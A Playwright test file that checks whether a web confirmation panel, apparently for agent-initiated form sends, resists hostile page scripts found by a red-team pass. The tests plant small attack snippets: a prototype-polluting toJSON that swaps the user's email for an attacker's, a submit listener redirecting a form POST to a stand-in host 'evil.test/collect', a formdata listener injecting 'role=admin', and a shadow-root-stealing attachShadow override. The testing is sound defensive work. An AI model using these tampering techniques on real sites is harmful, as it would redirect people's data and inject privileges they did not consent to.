/**
 * What goes out is what the panel showed, whatever a page script does after the runtime started
 * (issue 37, items 4 and 8): each test a page that tries one attack found by a red-team pass, on
 * the demo's contact page, against the real demo server (which counts every contact POST, sign-up
 * and newsletter subscription).
 * - `Object.prototype.toJSON` set after the panel showed: the endpoint write still sends the body
 *   the panel showed (shared/plain-json.ts).
 * - A native send (`data-capell-submit="native"`) changed after the runtime let it through: pointed
 *   elsewhere by a window `submit` listener the page added after the panel opened (another path,
 *   another origin), or given another entry by a `formdata` listener as the browser builds its own
 *   entry list: the browser sends nothing, and the panel says why (submit-guard.ts, letThrough).
 * - `Element.prototype.attachShadow` replaced after load, before the first write: the page never
 *   holds the panel's root (start/primitives.ts).
 */
import type { Page, Request } from '@playwright/test';
import { expect, readyReport, serveEdited, sharedTabTest as test, type Demo } from './demo-fixture.ts';
import { answerOf } from '../support/answer-of.ts';
import { PanelDriver } from './panel-driver.ts';
import { armedContactProposal } from './page-acts.ts';
import { callResult, startCall } from './agent-calls.ts';

const EVIL = 'http://evil.test';

test.describe('an endpoint write\'s body: toJSON added after the panel showed', () => {
  test.beforeEach(async ({ page, demo }) => {
    await page.goto(`${demo.url}/contact/plain`);
    await readyReport(page);
  });

  test('Object.prototype.toJSON set after the panel showed the email: the person\'s Send posts the email the panel showed', async ({ page, demo }) => {
    const before = demo.subscriptions.length;
    await startCall(page, 'newsletter.subscribe', { email: 'ada@example.test' });
    const panel = new PanelDriver(page);
    await panel.waitText('ada@example.test');
    await page.evaluate(() => {
      // Every object with an email becomes the attacker's, wherever JSON.stringify meets it.
      Object.defineProperty(Object.prototype, 'toJSON', {
        configurable: true,
        value(this: Record<string, unknown>) {
          return Object.prototype.hasOwnProperty.call(this, 'email') ? { ...this, email: 'attacker@evil.test' } : this;
        },
      });
    });
    await panel.click('Send');
    await page.evaluate(() => { delete (Object.prototype as { toJSON?: unknown }).toJSON; });
    expect(answerOf(await callResult(page))).toMatchObject({ status: 'submitted', httpStatus: 200 });
    expect(demo.subscriptions.slice(before)).toEqual(['ada@example.test']);
  });
});

/** The contact page with its form sent natively by the browser, ready; every POST the browser makes recorded. */
async function openNativeContact(page: Page, demo: Demo): Promise<Request[]> {
  await serveEdited(page, `${demo.url}/contact/plain`, (html) => html.replace('<form id="capell-form-contact"', '<form id="capell-form-contact" data-capell-submit="native"'));
  await page.route(`${EVIL}/**`, (route) => route.fulfill({ status: 200, contentType: 'text/html', body: '<p>got it</p>' }));
  await page.goto(`${demo.url}/contact/plain`);
  await readyReport(page);
  demo.formPosts.length = 0;
  demo.signups.length = 0;
  const posts: Request[] = [];
  page.on('request', (request) => { if (request.method() === 'POST' && request.isNavigationRequest()) posts.push(request); });
  return posts;
}

test.describe('a native send pointed elsewhere after the runtime let it through', () => {
  for (const [where, action, named] of [['another path of the site (/signups)', '/signups?list=page', '/signups'], ['another origin', `${EVIL}/collect`, 'evil.test']] as const) {
    test(`a window submit listener added after the panel opened points the form at ${where}: the browser sends nothing, and the panel says why`, async ({ page, demo }) => {
      const posts = await openNativeContact(page, demo);
      const panel = await armedContactProposal(page);
      await page.evaluate((action) => {
        // Bubble phase, on the window, added after the runtime's own listeners: it runs after
        // the runtime's decision to let the browser send.
        window.addEventListener('submit', (event) => { (event.target as HTMLFormElement).action = action; });
      }, action);
      await panel.click('Send');
      await expect.poll(async () => (await panel.state())?.refusal ?? 'no panel').toContain(named);
      expect(page.url()).toBe(`${demo.url}/contact/plain`);
      expect(posts.map((post) => post.url())).toEqual([]);
      expect(demo.formPosts).toEqual([]);
      expect(demo.signups).toEqual([]);
    });
  }

  test('a formdata listener that adds an entry only as the browser builds its own entry list: the navigation is cancelled, and the panel names the entry', async ({ page, demo }) => {
    const posts = await openNativeContact(page, demo);
    const panel = await armedContactProposal(page);
    await page.evaluate(() => {
      let built = 0;
      // The runtime builds the entry list once to check it (the first formdata event); the
      // browser builds its own for the native send after the runtime's last submit listener.
      window.addEventListener('formdata', (event) => { if (++built >= 2) (event as FormDataEvent).formData.append('role', 'admin'); });
    });
    // The browser's navigation is cancelled (the panel's Send is a mouse click: nothing waits for a navigation).
    await panel.click('Send');
    await panel.waitText('role added');
    expect(page.url()).toBe(`${demo.url}/contact/plain`);
    expect(posts.map((post) => post.url())).toEqual([]);
    expect(demo.formPosts).toEqual([]);
  });

  test('with no page listener, the person\'s native send still goes to the form\'s action and is answered submitted', async ({ page, demo }) => {
    await openNativeContact(page, demo);
    const panel = await armedContactProposal(page);
    const result = callResult(page);
    await panel.click('Send');
    expect(answerOf(await result)).toEqual({ status: 'submitted' });
    await page.waitForURL(/\/contact\/plain\?sent=1$/);
    expect(demo.formPosts).toEqual([expect.objectContaining({ path: '/contact/plain' })]);
  });
});

test.describe('the panel\'s root: attachShadow replaced after load', () => {
  test('a page that wraps Element.prototype.attachShadow before the first write never holds or restyles the panel\'s root; the person\'s Send still sends what it showed', async ({ page, demo }) => {
    await page.goto(`${demo.url}/contact/plain`);
    await readyReport(page);
    await page.evaluate(() => {
      const stolen: ShadowRoot[] = [];
      Object.assign(window, { stolenRoots: stolen });
      const attach = Element.prototype.attachShadow;
      Element.prototype.attachShadow = function (this: Element, init: ShadowRootInit) {
        const root = attach.call(this, { ...init, mode: 'open' });
        stolen.push(root);
        const style = document.createElement('style');
        style.textContent = 'dd, .value, code { color: transparent !important }';
        root.append(style);
        return root;
      };
    });
    const before = demo.subscriptions.length;
    await startCall(page, 'newsletter.subscribe', { email: 'ada@example.test' });
    const panel = new PanelDriver(page);
    await panel.waitText('ada@example.test');
    expect(await page.evaluate(() => ({
      stolen: (window as unknown as { stolenRoots: ShadowRoot[] }).stolenRoots.length,
      open: document.querySelector('capell-confirm-write')!.shadowRoot !== null,
    }))).toEqual({ stolen: 0, open: false });
    await panel.click('Send');
    expect(answerOf(await callResult(page))).toMatchObject({ status: 'submitted', httpStatus: 200 });
    expect(demo.subscriptions.slice(before)).toEqual(['ada@example.test']);
  });
});
